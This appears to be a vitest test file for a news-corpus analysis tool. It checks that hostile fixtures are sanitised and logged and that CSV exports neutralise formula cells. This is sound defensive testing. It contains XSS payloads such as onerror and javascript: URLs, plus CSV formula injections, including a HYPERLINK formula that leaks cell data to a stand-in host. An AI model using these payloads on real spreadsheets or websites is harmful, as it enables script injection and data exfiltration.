/**
 * Corpus health (#9): every broken or hostile file of tests/fixtures/hostile/
 * is read without stopping the analysis and is accounted for in the
 * corpus_health table with its reason; the seeds' own results do not change
 * when those files sit beside them; a broken lexicon stops everything with
 * its file and line; CSV outputs neutralise formula cells.
 */
import { spawnSync } from "node:child_process";
import { cpSync, mkdirSync, mkdtempSync, readFileSync, readdirSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { csvSafeCell, csvSafeRows } from "../data-loaders/csv-safe.ts";
import { DataFileError, jsonErrorAt, parseJsonData, readJsonData } from "../data-loaders/data-file.ts";
import { decodeArticleBytes } from "../data-loaders/decode.ts";
import { duplicatesOf } from "../data-loaders/health/duplicates.ts";
import { stripHtml } from "../data-loaders/health/html.ts";
import { guessLanguage, languageFinding } from "../data-loaders/health/language.ts";
import { metadataFindings } from "../data-loaders/health/metadata.ts";
import { problemReason } from "../data-loaders/health/problems.ts";
import { articleIds } from "../data-loaders/corpus.ts";
import { parseArticle } from "../data-loaders/parse.ts";
import { analyzeCorpus } from "../data-loaders/pipeline.ts";
import type { Row } from "../data-loaders/table.ts";
import { tableByName } from "../data-loaders/tables/index.ts";
// @ts-expect-error: a plain browser module without types; its two functions take and return plain values
import { csvSafeCell as browserCsvSafeCell, safeCsv } from "../src/components/download-button.js";

const ROOT = join(import.meta.dirname, "..");
const SEEDS = join(ROOT, "corpus");
const HOSTILE = join(ROOT, "tests/fixtures/hostile");
const TMP = mkdtempSync(join(tmpdir(), "framelens-health-"));
afterAll(() => rmSync(TMP, { recursive: true, force: true }));

const SEED_IDS = readdirSync(SEEDS).map((f) => f.replace(/\.txt$/, ""));

function corpusOf(name: string, ...dirs: string[]): string {
  const dir = join(TMP, name);
  mkdirSync(dir, { recursive: true });
  for (const d of dirs) cpSync(d, dir, { recursive: true });
  return dir;
}

const seedsOnly = analyzeCorpus(corpusOf("seeds", SEEDS), { cache: false });
const mixed = analyzeCorpus(corpusOf("mixed", SEEDS, HOSTILE), { cache: false });
const health = (a: typeof mixed) => tableByName("corpus_health").build(a) as (Row & { file: string; status: string; reason: string; detail: string; articleId: string })[];

describe("corpus_health on the hostile fixtures", () => {
  const rows = health(mixed);
  const compact = rows.map((r) => `${r.status} ${r.file} ${r.reason}`).sort();

  it("lists every broken and hostile file with its status and reason", () => {
    expect(compact).toEqual(
      [
        "repaired 002_f556e8cb820ee644.txt boilerplate",
        "repaired french.txt unbalanced-quotes",
        "repaired stray-html.txt html",
        "repaired unbalanced-quotes.txt unbalanced-quotes",
        "repaired utf16-bom.txt encoding",
        "repaired utf16-no-bom.txt encoding",
        "repaired windows-1252.txt encoding",
        "repaired xss-frontmatter.md html",
        "skipped binary-disguised.txt not-text",
        "skipped bad-front-matter.md bad-front-matter",
        "skipped empty.txt empty",
        "skipped formula.csv:4 bad-row",
        "skipped only-whitespace.txt empty",
        "skipped photo.jpg not-article-file",
        "skipped rows.jsonl:2 bad-row",
        "skipped rows.jsonl:4 empty",
        "suspicious attribute-breakout.md formula-in-metadata",
        "suspicious attribute-breakout.md markup-in-metadata",
        "suspicious english-only.md language",
        "suspicious formula.csv:2 formula-in-metadata",
        "suspicious french.txt language",
        "suspicious headings-only.md no-sentences",
        "suspicious only-front-matter.md no-sentences",
        "suspicious rows.jsonl:1 formula-in-metadata",
        "suspicious rows.jsonl:1 markup-in-metadata",
        "suspicious rows.jsonl:1 unsafe-url",
        "suspicious rows.jsonl:5 markup-in-metadata",
        "suspicious xss-frontmatter.md markup-in-metadata",
        "suspicious xss-frontmatter.md unsafe-url",
        "suspicious zz-copy-of-seed-000.txt duplicate",
      ].sort(),
    );
  });

  it("accounts for every fixture file: each is analysed cleanly or has a row", () => {
    const analysed = new Set(mixed.articles.map((a) => a.doc.meta.file.replace(/:\d+$/, "")));
    const withRow = new Set(rows.map((r) => r.file.replace(/:\d+$/, "")));
    for (const f of readdirSync(HOSTILE)) expect(analysed.has(f) || withRow.has(f), f).toBe(true);
    // the fixtures that are plainly fine are analysed, not skipped
    for (const f of ["rows.jsonl:3", "formula.csv:3"]) expect(mixed.articles.some((a) => a.doc.meta.file === f), f).toBe(true);
  });

  it("names the duplicate's original", () => {
    expect(rows.find((r) => r.reason === "duplicate")?.detail).toContain("000_22130187a627adea");
  });

  it("says what HTML was removed, with an example", () => {
    const d = rows.find((r) => r.file === "stray-html.txt")!.detail;
    expect(d).toMatch(/\d+ HTML tags removed \(with \d+ characters of script\/style content\), \d+ entities decoded; e\.g\. </);
  });

  it("tells the encoding that was guessed", () => {
    expect(rows.find((r) => r.file === "windows-1252.txt")!.detail).toMatch(/Windows-1252 \(guessed/);
  });

  it("names the language a foreign article reads as", () => {
    expect(rows.find((r) => r.file === "french.txt" && r.reason === "language")!.detail).toMatch(/French/);
    expect(rows.find((r) => r.file === "english-only.md")!.detail).toMatch(/English/);
  });

  it("gives article ids for articles and none for skipped files", () => {
    for (const r of rows) expect(r.articleId === "").toBe(r.status === "skipped");
  });

  it("has unique keys", () => {
    expect(new Set(rows.map((r) => `${r.file}\0${r.reason}`)).size).toBe(rows.length);
  });
});

describe("the seeds", () => {
  it("have no health rows but the boilerplate line seed 002 carries", () => {
    expect(health(seedsOnly).map((r) => `${r.status} ${r.file} ${r.reason}`)).toEqual(["repaired 002_f556e8cb820ee644.txt boilerplate"]);
  });

  const seedRows = (a: typeof mixed, table: string) =>
    JSON.stringify(tableByName(table).build(a).filter((r) => SEED_IDS.includes(String(r.articleId))));
  for (const table of ["articles", "sentences", "quotes", "mentions", "tone", "tone_hits", "voice", "frames", "frame_cues", "facts"]) {
    it(`keep their ${table} rows unchanged when the hostile files are added`, () => {
      const before = seedRows(seedsOnly, table);
      expect(before.length).toBeGreaterThan(2);
      expect(seedRows(mixed, table)).toBe(before);
    });
  }
});

describe("stray HTML (health/html.ts)", () => {
  it("removes tags and keeps their text", () => {
    expect(stripHtml("Er sagte <b>nein</b>.").text).toBe("Er sagte nein.");
  });
  it("drops script and style content with the element", () => {
    const r = stripHtml("Vorher<script>window.__xss=1</script> nachher<style>p{}</style>.");
    expect(r.text).toBe("Vorher  nachher .");
    expect(r.repair?.dropped).toBeGreaterThan(20);
  });
  it("turns block tags into paragraph breaks", () => {
    expect(stripHtml("<p>Eins.</p><p>Zwei.</p>").text.trim().split(/\n\n+/).map((s) => s.trim())).toEqual(["Eins.", "Zwei."]);
  });
  it("decodes entities after removing tags, so an escaped tag stays literal text", () => {
    expect(stripHtml("&bdquo;Ja&ldquo; &amp; &lt;img src=x onerror=alert(1)&gt; &#228;&#xFC;").text).toBe("„Ja“ & <img src=x onerror=alert(1)> äü");
  });
  it("leaves text without markup alone (a < b, autolinks, unknown entities)", () => {
    for (const t of ["Wenn a < b und c > d.", "Siehe <https://example.org>.", "Preis: 5 &foo; Euro", "Tom & Jerry"]) expect(stripHtml(t)).toEqual({ text: t, repair: null });
  });
  it("parses a scraped article into clean blocks and reports it in the metadata", () => {
    const p = parseArticle("x.txt", "<h1>Titel</h1>\n<p>Der erste Satz steht hier. <img src=x onerror=alert(1)>Noch einer.</p>");
    expect(p.text).toBe("Titel\n\nDer erste Satz steht hier. Noch einer.");
    expect(p.meta.htmlRemoved).toMatch(/HTML tags removed/);
    for (const b of p.blocks) expect(p.text.slice(b.start, b.end)).not.toMatch(/[<>]/);
  });
  it("keeps markup in front matter as written (pages show it as text)", () => {
    const p = parseArticle("x.md", '---\ntitle: "<b>fett</b>"\n---\n\nEin Satz.');
    expect(p.meta.title).toBe("<b>fett</b>");
    expect(p.meta.htmlRemoved).toBeUndefined();
  });
});

describe("reading dirty files", () => {
  it("reads UTF-16 without a byte-order mark", () => {
    const text = "Der Kanzler sagte, die Gespräche gingen weiter.";
    expect(decodeArticleBytes(Buffer.from(text, "utf16le"))).toEqual({ text, encoding: "utf-16le" });
  });
  it("gives pages only to article files that are analysed (a skipped file's page would fail the build)", () => {
    const ids = articleIds(join(TMP, "mixed"));
    expect(ids).toContain("xss-frontmatter");
    expect(ids).toContain("headings-only");
    for (const skipped of ["binary-disguised", "empty", "only-whitespace", "photo"]) expect(ids).not.toContain(skipped);
    expect(ids.length).toBe(mixed.articles.filter((a) => !a.doc.meta.file.includes(":")).length);
  });
  it("still skips binary files", () => {
    expect(() => decodeArticleBytes(readFileSync(join(HOSTILE, "binary-disguised.txt")))).toThrow(/binary/);
  });
  it("classifies every reader message into a reason", () => {
    expect(problemReason("skipped: empty file (0 bytes)")).toBe("empty");
    expect(problemReason("skipped: not valid JSON (x)")).toBe("bad-row");
    expect(problemReason("skipped: front matter is not valid YAML: x")).toBe("bad-front-matter");
    expect(problemReason("skipped: something new")).toBe("unreadable");
  });
  it("finds duplicates whatever the case, spacing and punctuation", () => {
    expect([...duplicatesOf([{ id: "a", text: "Ein Satz. Noch einer!" }, { id: "b", text: "ein  Satz – noch EINER" }, { id: "c", text: "Anders." }])]).toEqual([["b", "a"]]);
  });
  it("does not call two texts in another script duplicates because they share no Latin letters", () => {
    expect(duplicatesOf([{ id: "a", text: "Путин встретился с Трампом." }, { id: "b", text: "Переговоры продолжатся." }]).size).toBe(0);
    expect([...duplicatesOf([{ id: "a", text: "Путин встретился с Трампом." }, { id: "b", text: "путин встретился с трампом" }])]).toEqual([["b", "a"]]);
  });
  it("tells German, English and French apart by function words", () => {
    expect(guessLanguage("Der Kanzler sagte am Montag, dass die Gespräche mit der Ukraine noch nicht beendet seien und dass er auf eine Einigung hoffe.").lang).toBe("de");
    expect(guessLanguage("The chancellor said on Monday that the talks with Ukraine were not over and that he was hoping for an agreement.").lang).toBe("en");
    expect(guessLanguage("Le chancelier a déclaré lundi que les discussions avec l'Ukraine ne sont pas terminées et qu'il espère un accord.").lang).toBe("fr");
    expect(languageFinding("The chancellor said on Monday that the talks with Ukraine were not over and that he was hoping for an agreement.", "en")).toBeNull();
  });
  it("flags markup, formulas and non-http URLs in metadata, not plain values", () => {
    const meta = { id: "x", file: "x.md", title: "Titel", outlet: "Zeitung", author: "Erika", date: "2025-01-01", url: "https://example.org", lang: "de", encoding: "utf-8", boilerplate: [] };
    expect(metadataFindings(meta)).toEqual([]);
    expect(metadataFindings({ ...meta, title: "<svg onload=alert(1)>", author: "=1+1", url: "javascript:alert(1)" }).map((f) => f.reason)).toEqual(["markup-in-metadata", "formula-in-metadata", "unsafe-url"]);
    expect(metadataFindings({ ...meta, title: "-5 Grad in Moskau" })).toEqual([]);
  });
  it("takes a 5 MB one-line dump: analysed, flagged as one huge paragraph", () => {
    const seed = readFileSync(join(SEEDS, "000_22130187a627adea.txt"), "utf8").replace(/\s+/g, " ");
    const dir = join(TMP, "dump");
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, "dump.txt"), seed.repeat(Math.ceil(5_000_000 / seed.length)));
    const a = analyzeCorpus(dir, { cache: false });
    expect(a.problems).toEqual([]);
    expect(a.articles.length).toBe(1);
    expect(health(a).map((r) => r.reason)).toEqual(["long-paragraph"]);
  }, 600_000);
});

describe("undecodable bytes", () => {
  it("a UTF-8 file with a BOM and a broken byte is read, and the damage is listed as repaired", () => {
    const dir = join(TMP, "fffd");
    mkdirSync(dir, { recursive: true });
    const body = Buffer.from("Gipfel\n\nTrump sagte, der Gipfel sei gut gewesen. Putin schwieg.\n", "utf8");
    writeFileSync(join(dir, "broken.txt"), Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf, 0x80]), body]));
    const a = analyzeCorpus(dir, { cache: false });
    expect(a.problems).toEqual([]);
    const rows = health(a).filter((r) => r.reason === "invalid-bytes");
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ file: "broken.txt", status: "repaired" });
    expect(rows[0].detail).toMatch(/^1 character /);
  });
});

describe("broken data files fail with file and line", () => {
  it("locates JSON errors by line and column", () => {
    expect(() => parseJsonData('{\n  "a": 1\n  "b": 2\n}', "data/x.json")).toThrow("data/x.json:3:3: not valid JSON: expected \",\" or \"}\" after a value");
    expect(() => parseJsonData('{"a": [1, 2,]}', "x.json")).toThrow(/^x\.json:1:13: .*trailing comma/);
    expect(() => parseJsonData('{\n "a": "offen\n}', "x.json")).toThrow(/^x\.json:2:13: .*line break inside a string/);
    expect(() => parseJsonData("", "x.json")).toThrow(/^x\.json:1:1: .*the file ends/);
    expect(jsonErrorAt('{"a": [1, {"b": null}], "c": "\\u00e4"}')).toBeNull();
  });
  it("reads the real data files", () => {
    expect(readJsonData<{ licence: string }>("data/speech-verbs.json").licence).toBeTruthy();
    expect(() => readJsonData("data/no-such-file.json")).toThrow(DataFileError);
  });
  /** A copy of the engine with one data file edited, run over the seeds: exit status and stderr. */
  function runBrokenEngine(name: string, file: string, edit: (lines: string[]) => number): { status: number | null; stderr: string; line: number } {
    const root = join(TMP, `broken-${name}`);
    cpSync(join(ROOT, "data-loaders"), join(root, "data-loaders"), { recursive: true });
    symlinkSync(join(ROOT, "node_modules"), join(root, "node_modules"), "dir");
    const path = join(root, "data-loaders", file);
    const lines = readFileSync(path, "utf8").split("\n");
    const line = edit(lines);
    writeFileSync(path, lines.join("\n"));
    writeFileSync(join(root, "run.ts"), 'import { analyzeCorpus } from "./data-loaders/pipeline.ts";\nanalyzeCorpus(process.argv[2], { cache: false });\n');
    const r = spawnSync(process.execPath, [join(ROOT, "node_modules/tsx/dist/cli.mjs"), join(root, "run.ts"), SEEDS], { cwd: root, encoding: "utf8" });
    return { status: r.status, stderr: r.stderr, line };
  }
  // drop the comma that ends the first value line from the fifth line on: JSON breaks on the line after it
  const dropComma = (lines: string[]) => {
    const at = lines.findIndex((l, i) => i >= 4 && /,\s*$/.test(l));
    lines[at] = lines[at].replace(/,\s*$/, "");
    return at + 2;
  };
  it.each(["data/speech-verbs.json", "data/frames/frames.json", "data/tone/political.json", "data/abbreviations.json", "data/facts/facts.json"])(
    "a broken %s stops the analysis with its file, line and column",
    (file) => {
      const r = runBrokenEngine(file.replace(/\W+/g, "-"), file, dropComma);
      expect(r.status).not.toBe(0);
      expect(r.stderr).toMatch(new RegExp(`data-loaders/${file.replace(/[./]/g, "\\$&")}:${r.line}:\\d+: not valid JSON`));
    },
    60_000,
  );
  it("a broken actor registry stops the analysis with its file and line", () => {
    const r = runBrokenEngine("actors", "data/actors.csv", (lines) => {
      const row = lines.findIndex((l, i) => i > 0 && /^[a-z0-9-]+,/.test(l));
      lines.push(lines[row]);
      return lines.length;
    });
    expect(r.status).not.toBe(0);
    expect(r.stderr).toMatch(/actors\.csv line \d+ .*duplicate id/);
  }, 60_000);
});

describe("CSV formula injection", () => {
  const cases: [unknown, unknown][] = [
    ["=1+1", "'=1+1"], ["+cmd", "'+cmd"], ["-2+3", "'-2+3"], ["@SUM(A1)", "'@SUM(A1)"], ["\tx", "'\tx"], ["\rx", "'\rx"],
    ["-3.5", "-3.5"], ["+49", "+49"], [-3, -3], [0, 0], [true, true], [null, null], ["Text", "Text"], ["", ""], ["a=b", "a=b"],
  ];
  it.each(cases)("data-loaders/csv-safe: %j → %j", (v, out) => expect(csvSafeCell(v)).toEqual(out));
  it.each(cases)("the download button's copy of the rule agrees: %j", (v, out) => expect(browserCsvSafeCell(v)).toEqual(out));
  it("neutralises whole rows, leaving clean rows as they are", () => {
    const clean = { a: "x", n: -1 };
    const [r1, r2] = csvSafeRows([clean, { a: "=HYPERLINK(\"http://x\")", n: -1 }]);
    expect(r1).toBe(clean);
    expect(r2).toEqual({ a: "'=HYPERLINK(\"http://x\")", n: -1 });
    expect(safeCsv([{ a: "@x", n: -2 }])).toBe("a,n\n'@x,-2");
  });
  it("the CLI's CSV tables carry no live formula from the hostile corpus", () => {
    const out = join(TMP, "cli-out");
    const r = spawnSync(process.execPath, [join(ROOT, "node_modules/tsx/dist/cli.mjs"), join(ROOT, "scripts/analyze.ts"), join(TMP, "mixed"), "--out", out, "--no-cache", "--quiet"], { cwd: ROOT, encoding: "utf8" });
    expect(r.status, r.stderr).toBe(0);
    const sentences = readFileSync(join(out, "sentences.csv"), "utf8");
    expect(sentences).toContain(`,"'=1+1 ist keine Formel, sondern Text."`);
    expect(sentences).toContain(`"'=HYPERLINK(""http://xss.invalid/?leak=""&A1;""klick"")"`);
    const articles = readFileSync(join(out, "articles.csv"), "utf8");
    expect(articles).toContain("'@SUM(1+1)");
    for (const file of readdirSync(out).filter((f) => f.endsWith(".csv"))) {
      for (const line of readFileSync(join(out, file), "utf8").split("\n")) expect(line, file).not.toMatch(/(^|,)"?[=@]/);
    }
    expect(JSON.parse(readFileSync(join(out, "corpus_health.json"), "utf8")).length).toBe(health(mixed).length);
  }, 120_000);
});
